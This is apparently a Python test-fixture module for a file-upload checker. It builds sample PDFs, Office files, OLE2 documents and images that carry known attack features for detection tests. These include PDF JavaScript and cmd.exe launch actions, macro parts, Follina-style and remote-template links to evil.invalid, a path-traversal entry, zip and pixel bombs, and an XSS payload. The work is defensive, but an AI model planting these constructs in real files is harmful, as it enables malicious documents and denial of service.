"""Sample files made at test time, each with properties known by construction.

Nothing here calls ``filegate.domain.content``: the tests' oracles are what these builders put
in, not what the checker finds. PDFs are written byte by byte (with a correct xref table) so a
test can place any object, escaped name or orphan anywhere; OOXML packages are ZIPs of minimal
parts; OLE2 (.doc) files come from a small compound-file writer below (olefile reads OLE2 but
cannot create it); images come from Pillow, except the pixel bomb, whose header is hand-made.
"""

from __future__ import annotations

import functools
import hashlib
import io
import itertools
import math
import random
import struct
import zipfile
import zlib
from collections.abc import Iterable, Mapping

from PIL import Image

# MIME type names, re-exported for the tests (the samples are built here, independently of the checks)
from filegate.domain.content import DOC, DOCX, GIF, JPEG, PDF, PNG, PPTX, WEBP, XLSX

__all__ = ["DOC", "DOCX", "GIF", "JPEG", "PDF", "PNG", "PPTX", "WEBP", "XLSX"]  # and the sample builders below

#: The EICAR test string, assembled at run time so that no file in the repo holds it whole
#: (scanners on developers' machines would flag the repo). Its MD5 is EICAR's published one.
EICAR = b"".join((b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$", b"EICAR-STANDARD-", b"ANTIVIRUS-TEST-FILE!$H+H*"))
assert hashlib.md5(EICAR).hexdigest() == "44d88612fea8a8f36de82e1278abb02f"
HTML_PAYLOAD = b"<html><body><script>alert(document.domain)</script></body></html>"

# -- PDF ---------------------------------------------------------------------------------------


def pdf_from_objects(objects: Iterable[bytes], *, root: int = 1, orphans: Iterable[bytes] = (),
                     header: bytes = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n") -> bytes:
    """A PDF whose object N (1-based) is the Nth body; ``orphans`` sit in the file, in no xref."""
    out = bytearray(header)
    offsets = []
    bodies = list(objects)
    for number, body in enumerate(bodies, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    for index, body in enumerate(orphans, start=len(bodies) + 1):
        out += b"%d 0 obj\n" % index + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, root, xref)
    return bytes(out)


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def pdf(*, text: str = "Hello, recruiter", catalog_extra: bytes = b"", page_extra: bytes = b"",
        extra_objects: Iterable[bytes] = (), orphans: Iterable[bytes] = (), pad_to: int = 0) -> bytes:
    """A one-page text PDF. Objects 1-5 are catalog, pages, page, content, font; extras follow (6+).

    ``pad_to`` adds an uncompressed image XObject of seeded random bytes (as photos look) until
    the file is that long.
    """
    content = b"BT /F1 18 Tf 72 720 Td (" + text.encode("latin-1", "replace").replace(b"\\", b"").replace(
        b"(", b"").replace(b")", b"") + b") Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b">>",
        stream(content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *extra_objects,
    ]
    orphan_list = list(orphans)
    built = pdf_from_objects(objects, orphans=orphan_list)
    if pad_to > len(built):
        noise = random.Random(7).randbytes(pad_to)
        length = pad_to - len(built) - 150
        for _ in range(8):
            side = max(1, int(math.sqrt(length / 3)))
            image = stream(noise[:length], b"/Type /XObject /Subtype /Image /Width %d /Height %d "
                                           b"/ColorSpace /DeviceRGB /BitsPerComponent 8 " % (side, side))
            built = pdf_from_objects([*objects, image], orphans=orphan_list)
            if len(built) == pad_to:
                break
            length += pad_to - len(built)
    return built


OPEN_ACTION_JS = b"/OpenAction << /S /JavaScript /JS (app.alert\\('hi'\\)) >> "
HEX_ESCAPED_JS = b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> "


def pdf_with_open_action_js() -> bytes:
    return pdf(catalog_extra=OPEN_ACTION_JS)


def pdf_with_embedded_file() -> bytes:
    # objects 6 (file spec) and 7 (the embedded file stream)
    return pdf(catalog_extra=b"/Names << /EmbeddedFiles << /Names [(payload.exe) 6 0 R] >> >> ",
               extra_objects=[b"<< /Type /Filespec /F (payload.exe) /EF << /F 7 0 R >> >>",
                              stream(b"MZ\x90\x00 not really a program", b"/Type /EmbeddedFile ")])


#: Active-content injections into ``pdf()``: (keyword arguments, what it carries).
PDF_INJECTIONS: Mapping[str, dict[str, object]] = {
    "open_action_js": {"catalog_extra": OPEN_ACTION_JS},
    "hex_escaped_js": {"catalog_extra": HEX_ESCAPED_JS},
    "names_javascript": {"catalog_extra": b"/Names << /JavaScript << /Names [(a) 6 0 R] >> >> ",
                         "extra_objects": [b"<< /S /JavaScript /JS (this.print\\(\\)) >>"]},
    "launch": {"catalog_extra": b"/OpenAction << /S /Launch /F (cmd.exe) >> "},
    "page_aa_js": {"page_extra": b"/AA << /O << /S /JavaScript /JS 6 0 R >> >> ",
                   "extra_objects": [stream(b"app.alert(1)")]},
    "embedded_file": {"catalog_extra": b"/Names << /EmbeddedFiles << /Names [(x.exe) 6 0 R] >> >> ",
                      "extra_objects": [b"<< /Type /Filespec /F (x.exe) /EF << /F 7 0 R >> >>",
                                        stream(b"MZ", b"/Type /EmbeddedFile ")]},
    "file_attachment": {"page_extra": b"/Annots [6 0 R] ",
                        "extra_objects": [b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] >>"]},
    "rich_media": {"page_extra": b"/Annots [6 0 R] ",
                   "extra_objects": [b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>"]},
    "xfa": {"catalog_extra": b"/AcroForm << /Fields [] /XFA 6 0 R >> ", "extra_objects": [stream(b"<xdp/>")]},
    "submit_form": {"catalog_extra": b"/OpenAction << /S /SubmitForm /F (https://example.invalid/) >> "},
    "orphan_js": {"orphans": [b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"]},
}


# -- OOXML -------------------------------------------------------------------------------------

_CT_NS = "http://schemas.openxmlformats.org/package/2006/content-types"
_REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE_DOC = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
_REL_BASE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"

_MAIN = {
    DOCX: ("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"),
    XLSX: ("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
    PPTX: ("ppt/presentation.xml",
           "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"),
}


def content_types(overrides: Mapping[str, str], defaults: Mapping[str, str] | None = None) -> bytes:
    defaults = {"rels": "application/vnd.openxmlformats-package.relationships+xml", "xml": "application/xml",
                **(defaults or {})}
    lines = [f'<Default Extension="{ext}" ContentType="{kind}"/>' for ext, kind in defaults.items()]
    lines += [f'<Override PartName="/{part}" ContentType="{kind}"/>' for part, kind in overrides.items()]
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="{_CT_NS}">'
            + "".join(lines) + "</Types>").encode()


def relationships(rels: Iterable[tuple[str, str, str | None]]) -> bytes:
    """``(type, target, target_mode)`` triples; a type without a scheme is under the Office namespace."""
    items = []
    for index, (kind, target, mode) in enumerate(rels, start=1):
        full = kind if "://" in kind else _REL_BASE + kind
        mode_attribute = f' TargetMode="{mode}"' if mode else ""
        items.append(f'<Relationship Id="rId{index}" Type="{full}" Target="{target}"{mode_attribute}/>')
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="{_REL_NS}">'
            + "".join(items) + "</Relationships>").encode()


def ooxml_parts(kind: str = DOCX, *, text: str = "Curriculum vitae") -> dict[str, bytes]:
    """The minimal parts of a clean package of ``kind`` (DOCX, XLSX or PPTX)."""
    main, main_type = _MAIN[kind]
    safe = "".join(ch for ch in text if ch.isalnum() or ch == " ")
    if kind == DOCX:
        body = ('<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
                f'<w:p><w:r><w:t>{safe}</w:t></w:r></w:p></w:body></w:document>')
    elif kind == XLSX:
        body = ('<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets>'
                f'<sheet name="S{len(safe)}" sheetId="1"/></sheets></workbook>')
    else:
        body = ('<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main">'
                f'<!-- {safe} --></p:presentation>')
    folder = main.rsplit("/", 1)[0]
    name = main.rsplit("/", 1)[1]
    return {
        "[Content_Types].xml": content_types({main: main_type}),
        "_rels/.rels": relationships([(_OFFICE_DOC, main, None)]),
        main: body.encode(),
        f"{folder}/_rels/{name}.rels": relationships([("hyperlink", "https://www.linkedin.com/in/x", "External")]),
    }


def zip_bytes(parts: Mapping[str, bytes], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in parts.items():
            archive.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), data, compress_type=compression)
    return out.getvalue()


def ooxml(kind: str = DOCX, *, text: str = "Curriculum vitae", extra: Mapping[str, bytes] | None = None,
          replace: Mapping[str, bytes] | None = None) -> bytes:
    parts = ooxml_parts(kind, text=text)
    parts.update(replace or {})
    parts.update(extra or {})
    return zip_bytes(parts)


def docx_with_vba_project() -> bytes:
    """A macro-carrying DOCX as Word writes a .docm's parts: the part, its type and its relationship."""
    parts = ooxml_parts(DOCX)
    parts["[Content_Types].xml"] = content_types(
        {"word/document.xml": _MAIN[DOCX][1]}, {"bin": "application/vnd.ms-office.vbaProject"})
    parts["word/_rels/document.xml.rels"] = relationships([("vbaProject", "vbaProject.bin", None)])
    parts["word/vbaProject.bin"] = ole_file({"VBA/dir": b"\x01" * 64, "PROJECT": b'ID="{0}"'})
    return zip_bytes(parts)


@functools.lru_cache(maxsize=8)
def zip_bomb(kind: str = DOCX, inflated: int = 50 * 1024 * 1024) -> bytes:
    """A package of ``kind`` whose extra member inflates to ``inflated`` zero bytes (about 1,000:1).

    Written in 1 MiB chunks, so making a 50 MB bomb never holds 50 MB (the result is ~50 KB).
    """
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in ooxml_parts(kind).items():
            archive.writestr(name, data)
        media = _MAIN[kind][0].split("/", 1)[0] + "/media/image1.png"
        with archive.open(media, "w", force_zip64=True) as member:
            chunk = bytes(1024 * 1024)
            for _ in range(inflated // len(chunk)):
                member.write(chunk)
    return out.getvalue()


#: Active-content injections into a clean package: extra or replaced parts, per what they carry.
def ooxml_injections(kind: str) -> dict[str, dict[str, bytes]]:
    main, main_type = _MAIN[kind]
    folder, name = main.rsplit("/", 1)
    rels = f"{folder}/_rels/{name}.rels"
    return {
        "vba_part": {f"{folder}/vbaProject.bin": b"\xd0\xcf\x11\xe0 vba"},
        "vba_content_type": {"[Content_Types].xml": content_types(
            {main: main_type}, {"bin": "application/vnd.ms-office.vbaProject"})},
        "macro_enabled_main": {"[Content_Types].xml": content_types(
            {main: main_type.replace("openxmlformats-officedocument.wordprocessingml.document",
                                     "ms-word.document.macroEnabled")
             .replace("openxmlformats-officedocument.spreadsheetml.sheet", "ms-excel.sheet.macroEnabled")
             .replace("openxmlformats-officedocument.presentationml.presentation",
                      "ms-powerpoint.presentation.macroEnabled")})},
        "activex": {f"{folder}/activeX/activeX1.xml": b"<ax:ocx xmlns:ax='x'/>"},
        "ole_object": {f"{folder}/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 ole"},
        "embedded_package": {f"{folder}/embeddings/Microsoft_Word_Document.docm": b"PK\x03\x04"},
        "remote_template": {rels: relationships([("attachedTemplate", "https://evil.invalid/t.dotm", "External")])},
        "follina": {rels: relationships([("oleObject", "https://evil.invalid/x.html!", "External")])},
        "traversal": {"../../evil.xml": b"<x/>"},
        "doctype": {rels: b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaa">]><Relationships xmlns="'
                          + _REL_NS.encode() + b'">&a;</Relationships>'},
        "macrosheet": {"xl/macrosheets/sheet1.xml": b"<xm:macrosheet xmlns:xm='x'/>"},
    }


# -- OLE2 (compound file binary format, version 3, 512-byte sectors) -------------------------------

_FREESECT, _ENDOFCHAIN, _FATSECT, _NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
_OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def ole_file(streams: Mapping[str, bytes]) -> bytes:
    """A compound file holding ``streams`` (``"Storage/Sub/Stream"`` paths; storages implied).

    Each stream is padded to at least 4,096 bytes so that it lives in ordinary sectors (no mini
    stream to write). Siblings form a right-leaning chain, every node black: readers accept it.
    """
    tree: dict[str, object] = {}
    for path, data in streams.items():
        node = tree
        *storages, leaf = path.split("/")
        for storage in storages:
            child = node.setdefault(storage, {})
            assert isinstance(child, dict)
            node = child
        node[leaf] = data.ljust(4096, b"\x00")
    entries: list[dict[str, object]] = []

    def add(name: str, node: object, kind: int) -> int:
        index = len(entries)
        entry: dict[str, object] = {"name": name, "kind": kind, "child": _NOSTREAM, "right": _NOSTREAM,
                                    "data": node if isinstance(node, bytes) else b""}
        entries.append(entry)
        if isinstance(node, dict):
            kids = [add(child, value, 1 if isinstance(value, dict) else 2) for child, value in node.items()]
            if kids:
                entry["child"] = kids[0]
                for left, right in itertools.pairwise(kids):
                    entries[left]["right"] = right
        return index

    add("Root Entry", tree, 5)
    dir_sectors = math.ceil(len(entries) / 4)
    data_sectors = sum(math.ceil(len(e["data"]) / 512) for e in entries if e["kind"] == 2)  # type: ignore[arg-type]
    fat_sectors = 1
    while fat_sectors * 128 < fat_sectors + dir_sectors + data_sectors:
        fat_sectors += 1
    assert fat_sectors <= 109
    fat = [_FATSECT] * fat_sectors
    first_dir = len(fat)
    fat += [*range(first_dir + 1, first_dir + dir_sectors), _ENDOFCHAIN]
    body = bytearray()
    starts: dict[int, int] = {}
    for index, entry in enumerate(entries):
        data = entry["data"]
        assert isinstance(data, bytes)
        if entry["kind"] != 2:
            continue
        count = math.ceil(len(data) / 512)
        start = len(fat)
        starts[index] = start
        fat += [*range(start + 1, start + count), _ENDOFCHAIN]
        body += data.ljust(count * 512, b"\x00")
    fat += [_FREESECT] * (fat_sectors * 128 - len(fat))
    directory = bytearray()
    for index, entry in enumerate(entries):
        name = str(entry["name"]).encode("utf-16-le") + b"\x00\x00"
        data = entry["data"]
        assert isinstance(data, bytes)
        start = starts.get(index, _ENDOFCHAIN)
        directory += struct.pack("<64sHBBIII16sIQQIQ", name, len(name), int(entry["kind"]), 1,  # type: ignore[call-overload]
                                 _NOSTREAM, entry["right"], entry["child"], b"\x00" * 16, 0, 0, 0, start, len(data))
    directory = directory.ljust(dir_sectors * 512, b"\x00")
    # Unused directory slots: empty entries whose sibling/child ids are NOSTREAM.
    for slot in range(len(entries), dir_sectors * 4):
        offset = slot * 128
        directory[offset + 68:offset + 80] = struct.pack("<III", _NOSTREAM, _NOSTREAM, _NOSTREAM)
    difat = list(range(fat_sectors)) + [_FREESECT] * (109 - fat_sectors)
    header = struct.pack("<8s16sHHHHH6sIIIIIIIII", _OLE_MAGIC, b"\x00" * 16, 0x3E, 3, 0xFFFE, 9, 6, b"\x00" * 6,
                         0, fat_sectors, first_dir, 0, 4096, _ENDOFCHAIN, 0, _ENDOFCHAIN, 0)
    header += struct.pack("<109I", *difat)
    fat_bytes = struct.pack(f"<{len(fat)}I", *fat)
    return bytes(header + fat_bytes + directory + body)


def word_fib(*, n_fib: int = 0x00C1, encrypted: bool = False, text: str = "") -> bytes:
    flags = 0x0100 if encrypted else 0
    return struct.pack("<HHHHHH", 0xA5EC, n_fib, 0, 0x0409, 0, flags) + text.encode("utf-16-le")


def doc(*, text: str = "Curriculum vitae", extra: Mapping[str, bytes] | None = None, n_fib: int = 0x00C1,
        encrypted: bool = False) -> bytes:
    """A Word 97 binary document's container: WordDocument (a FIB), 1Table, plus ``extra`` streams."""
    streams = {"WordDocument": word_fib(n_fib=n_fib, encrypted=encrypted, text=text), "1Table": b"\x00" * 16}
    streams.update(extra or {})
    return ole_file(streams)


#: Macro and embedded-object storages as Word 97-2003 writes them.
DOC_INJECTIONS: Mapping[str, dict[str, bytes]] = {
    "macros": {"Macros/VBA/dir": b"\x01" * 32, "Macros/VBA/ThisDocument": b"Attribute VB_Name",
               "Macros/VBA/_VBA_PROJECT": b"\xcc\x61", "Macros/PROJECT": b'ID="{0}"'},
    "vba_project_cur": {"_VBA_PROJECT_CUR/VBA/dir": b"\x01" * 32},
    "object_pool": {"ObjectPool/_1234567/\x01Ole10Native": b"MZ packaged program"},
    "equation": {"ObjectPool/_7654321/Equation Native": b"\x1c\x00"},
}


# -- images ------------------------------------------------------------------------------------


def pixels(width: int, height: int, mode: str = "RGB", seed: int = 1) -> Image.Image:
    """A seeded noisy image: every pixel matters when comparing decodes."""
    bands = len(mode) if mode in ("RGB", "RGBA", "L", "LA") else 3
    rng = random.Random(seed)
    return Image.frombytes(mode, (width, height), rng.randbytes(width * height * bands))


def smooth(width: int, height: int, seed: int = 1) -> Image.Image:
    """A smooth gradient (as photos are, locally): lossy codecs keep it within a few levels."""
    rng = random.Random(seed)
    r0, g0, b0 = (rng.randrange(0, 128) for _ in range(3))
    image = Image.new("RGB", (width, height))
    image.putdata([(r0 + x * 100 // width, g0 + y * 100 // height, b0 + (x + y) * 50 // (width + height))
                   for y in range(height) for x in range(width)])
    return image


def encode(image: Image.Image, fmt: str, **params: object) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt, **params)
    return out.getvalue()


def png(width: int = 32, height: int = 24, *, mode: str = "RGB", seed: int = 1, **params: object) -> bytes:
    return encode(pixels(width, height, mode, seed), "PNG", **params)


def png_with_text(width: int = 16, height: int = 16) -> bytes:
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", HTML_PAYLOAD.decode())
    return png(width, height, pnginfo=info)


def jpeg(width: int = 32, height: int = 24, *, seed: int = 1, exif: bytes | None = None, **params: object) -> bytes:
    extra: dict[str, object] = dict(params)
    if exif is not None:
        extra["exif"] = exif
    return encode(smooth(width, height, seed), "JPEG", quality=90, **extra)


def exif_with_gps(orientation: int | None = None) -> bytes:
    from PIL import ExifTags

    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "FilegateCam"
    if orientation is not None:
        exif[ExifTags.Base.Orientation] = orientation
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (1.0, 17.0, 30.0)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (103.0, 51.0, 0.0)
    return exif.tobytes()


def webp(width: int = 32, height: int = 24, *, lossless: bool = True, seed: int = 1) -> bytes:
    if lossless:
        return encode(pixels(width, height, "RGB", seed), "WEBP", lossless=True)
    return encode(smooth(width, height, seed), "WEBP", quality=90)


def gif(width: int = 32, height: int = 24, *, seed: int = 1, comment: bytes | None = None) -> bytes:
    image = pixels(width, height, "RGB", seed).quantize(64)
    params: dict[str, object] = {}
    if comment is not None:
        params["comment"] = comment
    return encode(image, "GIF", **params)


def animated(fmt: str, frames: int = 3) -> bytes:
    images = [pixels(16, 16, "RGB", seed) for seed in range(frames)]
    if fmt == "GIF":
        images = [image.quantize(32) for image in images]
    params: dict[str, object] = {"save_all": True, "append_images": images[1:], "duration": 100, "loop": 0}
    if fmt == "WEBP":
        params["lossless"] = True
    return encode(images[0], fmt, **params)


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_pixel_bomb(width: int = 100_000, height: int = 100_000) -> bytes:
    """A small, well-formed PNG that claims ``width`` x ``height`` 1-bit pixels (all zero rows)."""
    row = bytes(1 + math.ceil(width / 8))
    compressor = zlib.compressobj(9)
    # Only the first rows are written: the header alone must be enough to refuse it.
    idat = compressor.compress(row * 64) + compressor.flush()
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
            + _chunk(b"IDAT", idat) + _chunk(b"IEND", b""))
